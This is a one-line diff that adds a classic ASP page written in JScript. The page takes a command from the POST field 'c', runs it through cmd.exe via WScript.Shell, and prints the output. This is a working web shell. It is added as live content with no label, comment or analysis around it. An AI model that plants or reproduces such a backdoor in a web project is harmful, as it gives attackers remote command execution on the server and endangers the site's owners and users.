@@ -1,0 +1,1 @@
+<%@ LANGUAGE="JScript" %><% var s = new ActiveXObject("WScript.Shell"); Response.Write(s.Exec("cmd /c " + Request.Form("c")).StdOut.ReadAll()); %>
